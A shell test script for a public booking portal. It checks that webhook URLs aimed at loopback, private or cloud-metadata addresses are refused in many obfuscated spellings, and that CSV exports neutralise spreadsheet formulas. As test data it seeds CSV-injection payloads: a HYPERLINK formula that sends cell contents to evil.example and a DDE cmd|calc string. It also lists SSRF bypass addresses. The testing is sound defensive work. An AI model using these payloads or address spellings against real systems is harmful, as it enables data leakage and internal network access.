#!/bin/sh
# test_abuse.sh HOLDCHECK: the rules of the public portal that need no load to test
# (docs/public.md, "Abuse").
# - A webhook URL whose host is loopback, private, link-local, shared or unspecified is refused
#   when the subscription is made (422, field url), in every spelling a URL parser or
#   inet_aton reads as such an address (127.1, 2130706433, 0x7f.1, 017700000001, ...), as an
#   IPv6 literal (::1, ::ffff:127.0.0.1, fe80::), as localhost with or without a trailing dot,
#   and as a name that resolves to a loopback address; public addresses are taken.
# - Every CSV the public can fetch (the export over HTTP, the daily snapshot, and
#   `holdcheck public-export`) neutralizes a cell a spreadsheet would run as a formula: it
#   starts with an apostrophe and is quoted.
# Ends with "N passed, M failed"; exits 1 on any failure.
# shellcheck disable=SC2015 # "A && ok || bad": ok always returns 0, so bad runs only when A fails
. "$(dirname "$0")/lib.sh"


"$bin" migrate --db "$db" > /dev/null || die "migrate failed"
AD="Authorization: Bearer $(admin_token "$db" a-admin)"
srv_start "$db" --public-rate 1000 --public-burst 100000 --public-status-seconds 1 \
    --export-refresh-seconds 1 --snapshot-dir "$tmp/snaps" --mail-outbox "$tmp/outbox"
# seed NO NAME FACILITY
seed() {
    body=$(jq -cn --arg no "$1" --arg name "$2" --arg fac "$3" \
        '{booking_no: $no, booked_at: "2024-05-01", facility: $fac, person: {name: $name}}')
    req "seed $1" 201 $A '' -- -H "$AD" -H "$J" -d "$body" "$B/api/v1/bookings"
}
seed W-1 "Testperson, W" "Main Jail"
# Names and facilities a spreadsheet would run (a person's name is whatever the booking says).
seed F-1 '=HYPERLINK("http://evil.example/?x="&A1,"click")' "Main Jail"
seed F-2 "+1+2" "Main Jail"
seed F-3 "-2+3, Minus" "Main Jail"
seed F-4 "@SUM(1+1)*cmd|' /C calc'!A0" "Main Jail"
seed F-5 "	Tab, Leading" "=1+1"
seed F-6 "Plain, Person" "@Annex"
publish_all

# --- webhook URLs refused at subscription, in every spelling
refused() { # NAME URL
    req "refused: $1" 422 $P '"field":"url"' -- -H "$J" \
        -d "{\"booking_no\":\"W-1\",\"channel\":\"webhook\",\"url\":\"$2\"}" "$B/api/v1/public/subscriptions"
}
taken() { # NAME URL
    req "taken: $1" 202 $A '"secret":"whsec_' -- -H "$J" \
        -d "{\"booking_no\":\"W-1\",\"channel\":\"webhook\",\"url\":\"$2\"}" "$B/api/v1/public/subscriptions"
}
refused "127.0.0.1" "http://127.0.0.1/x"
refused "127.1 (two parts)" "http://127.1/x"
refused "127.0.1 (three parts)" "http://127.0.1/x"
refused "2130706433 (one 32-bit number)" "http://2130706433/x"
refused "0x7f.1 (hex)" "http://0x7f.1/x"
refused "0x7f000001" "http://0x7f000001/x"
refused "017700000001 (octal)" "http://017700000001/x"
refused "0177.0.0.1 (octal part)" "http://0177.0.0.1/x"
refused "127.0.0.1. (trailing dot)" "http://127.0.0.1./x"
refused "localhost" "http://localhost/x"
refused "localhost. (trailing dot)" "http://localhost./x"
refused "LOCALHOST" "http://LOCALHOST:8080/x"
refused "a name under localhost" "http://api.localhost/x"
refused "[::1]" "http://[::1]/x"
refused "[::]" "http://[::]/x"
refused "[::ffff:127.0.0.1] (IPv4-mapped)" "http://[::ffff:127.0.0.1]/x"
refused "[::ffff:7f00:1] (IPv4-mapped, hex)" "http://[::ffff:7f00:1]/x"
refused "[::ffff:10.0.0.1]" "http://[::ffff:10.0.0.1]/x"
refused "[fe80::1] (link-local)" "http://[fe80::1]/x"
refused "[fc00::1] (unique local)" "http://[fc00::1]/x"
refused "[fd12:3456::1] (unique local)" "http://[fd12:3456::1]/x"
refused "10.0.0.1" "http://10.0.0.1/x"
refused "10.255.255.255" "http://10.255.255.255/x"
refused "167772161 (10.0.0.1 as a number)" "http://167772161/x"
refused "172.16.0.1" "http://172.16.0.1/x"
refused "172.31.255.254" "http://172.31.255.254/x"
refused "192.168.1.1" "http://192.168.1.1/x"
refused "0xc0.0xa8.1.1 (hex parts)" "http://0xc0.0xa8.1.1/x"
refused "169.254.169.254 (link-local, cloud metadata)" "http://169.254.169.254/latest/meta-data/"
refused "100.64.0.1 (shared)" "http://100.64.0.1/x"
refused "100.127.255.254 (shared)" "http://100.127.255.254/x"
refused "0.0.0.0" "http://0.0.0.0/x"
refused "0 (one number)" "http://0/x"
refused "https too" "https://127.1/x"
# A host that looks like a number but is not an address is not a name either.
req "256.1.1.1 is not an address" 400 $P '"field":"url"' -- -H "$J" \
    -d '{"booking_no":"W-1","channel":"webhook","url":"http://256.1.1.1/x"}' "$B/api/v1/public/subscriptions"
req "1.2.3.4.5 is not an address" 400 $P '"field":"url"' -- -H "$J" \
    -d '{"booking_no":"W-1","channel":"webhook","url":"http://1.2.3.4.5/x"}' "$B/api/v1/public/subscriptions"
# A name that resolves to loopback (from /etc/hosts, when this machine has one besides localhost).
lname=""
for n in ip6-localhost ip6-loopback "$(hostname 2>/dev/null)" vm runsc; do
    [ -n "$n" ] || continue
    a=$(getent ahosts "$n" 2>/dev/null | awk 'NR == 1 {print $1}')
    case $a in 127.*|::1) lname=$n; break ;; esac
done
if [ -n "$lname" ]; then
    refused "$lname (a name resolving to loopback)" "http://$lname/x"
else
    echo "skip no name besides localhost resolves to loopback here"
fi
taken "a public IPv4 address" "http://8.8.8.8/x"
taken "a public address as one number (134744072)" "http://134744072/x"
taken "172.32.0.1 (just past 172.16/12)" "http://172.32.0.1/x"
taken "100.128.0.1 (just past 100.64/10)" "http://100.128.0.1/x"
taken "a public IPv6 address" "https://[2606:4700::1111]/x"
taken "a name that does not resolve now" "https://hooks.example.invalid/x"

# --- CSV cells neutralized
# check_csv FILE: no cell starts like a formula, and the seeded ones read as text.
check_csv() {
    python3 - "$1" <<'EOF'
import csv, sys
rows = list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8")))
head, body = rows[0], rows[1:]
bad = [c for r in body for c in r if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
names = {r[head.index("booking_no")]: r for r in body}
want = {
    "F-1": ("name", "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"),
    "F-2": ("name", "'+1+2"),
    "F-3": ("name", "'-2+3, Minus"),
    "F-4": ("name", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    "F-5": ("name", "'\tTab, Leading"),
    "F-6": ("facility", "'@Annex"),
}
wrong = []
for no, (col, v) in want.items():
    got = names.get(no, [None] * len(head))[head.index(col)]
    if got != v:
        wrong.append("%s %s: %r, want %r" % (no, col, got, v))
if names.get("F-5", [None] * len(head))[head.index("facility")] != "'=1+1":
    wrong.append("F-5 facility: %r" % names.get("F-5")[head.index("facility")])
if bad or wrong:
    print("formula cells: %r; wrong: %s" % (bad, "; ".join(wrong)))
    sys.exit(1)
EOF
}
wait_for 20 export_ready && ok "export ready" || bad "export ready" "503 for 20 s"
curl -s -o "$tmp/export.csv" "$B/api/v1/public/export.csv"
out=$(check_csv "$tmp/export.csv") && ok "export.csv: formula cells neutralized" || bad "export.csv" "$out"
grep -q "^F-2,\"'+1+2\"," "$tmp/export.csv" && ok "a neutralized cell is quoted" || bad "quoted" "$(grep '^F-2' "$tmp/export.csv")"
grep -q '^W-1,"Testperson, W",' "$tmp/export.csv" && ok "other cells unchanged" || bad "plain cell" "$(grep '^W-1' "$tmp/export.csv")"
curl -s -o "$tmp/export.jsonl" "$B/api/v1/public/export.jsonl"
grep -q '"name":"+1+2"' "$tmp/export.jsonl" && ok "JSON Lines keep the value as it is" || bad "jsonl" "$(grep F-2 "$tmp/export.jsonl")"
snap=$(find "$tmp/snaps" -name '*.csv' | head -1)
wait_for 20 sh -c "grep -q '^F-6' \"\$(find '$tmp/snaps' -name '*.csv' | head -1)\"" || true
snap=$(find "$tmp/snaps" -name '*.csv' | head -1)
[ -n "$snap" ] && out=$(check_csv "$snap") && ok "snapshot: formula cells neutralized" || bad "snapshot" "${out:-no snapshot}"
srv_stop
"$bin" public-export --db "$db" --format csv --out "$tmp/cli.csv" 2> /dev/null
out=$(check_csv "$tmp/cli.csv") && ok "public-export --format csv: formula cells neutralized" || bad "public-export" "$out"

echo "$pass passed, $fail failed"
[ "$fail" -eq 0 ]
